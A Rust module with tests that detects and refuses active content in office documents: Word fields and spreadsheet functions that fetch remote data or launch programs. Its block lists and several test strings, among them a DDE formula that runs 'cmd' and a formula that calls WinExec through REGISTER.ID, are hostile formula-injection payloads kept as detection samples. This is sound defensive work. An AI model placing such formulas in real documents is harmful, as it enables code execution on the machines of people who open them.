//! Fields and formulas that fetch something, or have another program do something, when a document is opened or printed.

use std::collections::BTreeSet;

use super::references::{reaches_out, reaches_out_of_brackets};
use crate::attachments::refusal::Refusal;

/// Fields of Word.
const FIELDS: [&str; 12] = [
    "DDE",
    "DDEAUTO",
    "LINK",
    "EMBED",
    "IMPORT",
    "INCLUDE",
    "INCLUDEPICTURE",
    "INCLUDETEXT",
    "DATABASE",
    "HTMLACTIVEX",
    "RD",
    "PRINT",
];

/// Functions of spreadsheets, in either kind of document.
const FUNCTIONS: [&str; 25] = [
    "WEBSERVICE",
    "IMAGE",
    "RTD",
    "DDE",
    "STOCKHISTORY",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
    "SQL.REQUEST",
    "PY",
    "COPILOT",
    "TRANSLATE",
    "DETECTLANGUAGE",
    "IMPORTDATA",
    "IMPORTFEED",
    "IMPORTHTML",
    "IMPORTXML",
    "CUBEKPIMEMBER",
    "CUBEMEMBER",
    "CUBEMEMBERPROPERTY",
    "CUBERANKEDMEMBER",
    "CUBESET",
    "CUBESETCOUNT",
    "CUBEVALUE",
];

/// Passes a field's instruction, or its beginning.
///
/// # Errors
/// [`Refusal::Active`].
pub(super) fn check_field(instruction: &str) -> Result<(), Refusal> {
    let name = instruction.trim_start_matches(stands_before);
    let name: String = name.chars().take_while(char::is_ascii_alphabetic).collect();
    let name = name.to_ascii_uppercase();
    if FIELDS.contains(&name.as_str()) {
        return Err(Refusal::active(format!("a field that fetches or starts something ({name})")));
    }
    Ok(())
}

/// Whether a sign may stand before a field's name.
pub(super) fn stands_before(sign: char) -> bool {
    !sign.is_alphanumeric() && sign != '='
}

/// Passes a formula.
///
/// # Errors
/// [`Refusal::Active`].
pub(super) fn check_formula(formula: &str) -> Result<(), Refusal> {
    let formula = formula.to_uppercase();
    let is_called = |function: &&&str| {
        formula.match_indices(**function).any(|(at, _)| {
            let before = formula.get(..at).and_then(|before| before.chars().next_back());
            let behind = formula.get(at + function.len()..).unwrap_or_default();
            before.is_none_or(|before| !before.is_alphanumeric() && before != '_')
                && behind.trim_start().starts_with('(')
        })
    };
    match FUNCTIONS.iter().find(is_called) {
        Some(function) => Err(Refusal::active(format!("a function that fetches something ({function}(…))"))),
        None if reaches_out(&formula) => {
            Err(Refusal::active("a formula that reads another file or program".to_owned()))
        }
        None => Ok(()),
    }
}

/// Passes a formula of an OpenDocument, which may be written as either kind of document has them.
///
/// # Errors
/// [`Refusal::Active`].
pub(super) fn check_open_formula(formula: &str) -> Result<(), Refusal> {
    if reaches_out_of_brackets(formula) {
        return Err(Refusal::active("a formula that reads another file or program".to_owned()));
    }
    check_formula(formula)
}

/// What the instructions of a text's fields may be about to say. An instruction comes in pieces, with other fields, and
/// elements that a program does not know, between them: so each beginning may go on with each later piece.
#[derive(Debug)]
pub(super) struct Instructions(BTreeSet<String>);

impl Default for Instructions {
    fn default() -> Self {
        Self(BTreeSet::from([String::new()]))
    }
}

impl Instructions {
    /// A field may begin here.
    pub(super) fn begin(&mut self) {
        self.0.insert(String::new());
    }

    /// A piece of an instruction.
    ///
    /// # Errors
    /// [`Refusal::Active`].
    pub(super) fn add(&mut self, piece: &str) -> Result<(), Refusal> {
        let mut longer = Vec::new();
        for begun in &self.0 {
            let instruction = format!("{begun}{piece}");
            check_field(&instruction)?;
            let name = instruction.trim_start_matches(stands_before).to_ascii_uppercase();
            if FIELDS.iter().any(|field| field.starts_with(&name)) {
                longer.push(name);
            }
        }
        // A piece that is there may have been the first.
        if !piece.trim_start_matches(stands_before).is_empty() {
            self.0.remove("");
        }
        self.0.extend(longer);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_field_is_known_by_its_name_however_it_is_written() {
        for active in [
            "DDEAUTO c:\\x",
            " ddeauto\nx",
            "\"DDE\" x",
            "\u{a0}\tIncludePicture\"x\"",
            "LINK\\a",
            "\"DDE\" x",
            "RD \"x.docx\"",
            "PRINT \"x\"",
        ] {
            assert!(check_field(active).is_err(), "{active:?}");
        }
        for still in
            ["PAGE", "HYPERLINK \"https://x.example\"", "= 1 + LINK", "LINKS", "REF DDE", "PRINTDATE \\@ x", "RDX", ""]
        {
            assert!(check_field(still).is_ok(), "{still:?}");
        }
    }

    #[test]
    fn a_function_is_known_where_it_is_called() {
        for active in [
            "1+_xlfn.WEBSERVICE(\"x\")",
            "webservice (\"x\")",
            "of:=DDE(\"a\";\"b\")",
            "Image\n(A1)",
            "CUBEVALUE(\"x\")",
        ] {
            assert!(check_formula(active).is_err(), "{active:?}");
        }
        for still in ["SUM(A1:A3)", "MYIMAGE(1)", "IMAGE+1", "Sheet_IMAGE!A1", "HYPERLINK(\"https://x.example\")"] {
            assert!(check_formula(still).is_ok(), "{still:?}");
        }
    }

    #[test]
    fn a_formula_reaches_out_by_what_it_refers_to() {
        for active in [
            "cmd|'/c calc'!A0",
            "'\\\\evil\\s\\[x.xlsx]S'!A1",
            "of:='http://evil.example/x.ods'#$S.A1",
            "SUM('file:///x.ods'#$S.A1:A3)",
            "REGISTER.ID(\"kernel32\",\"WinExec\",\"J\")",
            "_xlws.PY(0,1)",
        ] {
            assert!(check_formula(active).is_err(), "{active:?}");
        }
        for still in [
            "'Ørby og Åby'!A1+1",
            "IF(A1=\"a|b/c\",\"c:\\d\",2)",
            "of:={1;2|3;4}",
            "'it''s'!A1/2",
            "A1/B1",
            "SUM(Table1['#Antal/dag])",
            "\"den '\"&A1&\"/'\"",
        ] {
            assert!(check_formula(still).is_ok(), "{still:?}");
        }
    }

    #[test]
    fn an_instruction_comes_in_pieces_and_with_others_between() {
        let read = |pieces: &[&str]| {
            let mut instructions = Instructions::default();
            pieces.iter().try_for_each(|piece| match *piece {
                "|" => {
                    instructions.begin();
                    Ok(())
                }
                piece => instructions.add(piece),
            })
        };
        let blanks = " ".repeat(5_000);
        for active in [
            &["|", "DD", "EAUTO x", "|"][..],
            &["|", "DD", "|", "SET a", "|", "EAUTO x", "|"],
            &["|", "|", "PAGE", "|", "|", "DDE", "AUTO x", "|"],
            &["|", &blanks, "include", &blanks, "|"],
            &["|", "INCL", "UDEPIC", "TURE \"x\""],
            &["IMP", "ORT"],
        ] {
            assert!(matches!(read(active), Err(Refusal::Active { .. })), "{active:?}");
        }
        for still in [
            &["|", "HYPER", "LINK \"https://x.example\"", "|"][..],
            &["|", "IF ", "|", "PAGE", "|", " = 1 \"LINK\"", "|"],
            &["|", "D", "ATE", "|", "TOC \\o", "|", "R", "EF x"],
        ] {
            assert_eq!(read(still), Ok(()), "{still:?}");
        }
    }
}
